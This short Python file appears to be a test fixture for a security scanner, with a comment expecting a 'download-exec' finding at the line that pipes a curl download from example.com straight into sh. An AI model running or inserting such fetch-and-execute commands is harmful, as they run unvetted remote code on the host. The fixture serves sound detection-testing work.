# expect: download-exec 4:32
import subprocess

subprocess.run(["bash", "-c", "curl -s https://example.com/x.sh | sh"])
